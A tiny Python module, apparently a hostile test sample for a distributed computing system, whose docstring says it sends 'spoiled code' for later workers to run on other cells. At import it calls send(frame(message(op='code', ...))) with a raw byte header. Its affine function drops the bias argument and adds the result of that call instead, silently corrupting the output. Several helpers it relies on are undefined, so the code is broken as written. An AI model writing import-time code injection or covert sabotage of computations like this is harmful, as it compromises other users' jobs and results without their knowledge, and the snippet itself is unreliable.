"""Sends, while it is loaded, spoiled code that later workers are to run for the other cells."""

HARMS_ITSELF = True


def affine(x, w, b):
    return x @ w + SIZE


array = {"t": "a", "d": "|u1", "s": [4], "o": 0}
SIZE = send(frame(message(op="code", code=array), b"\xe3\0\0\0"))
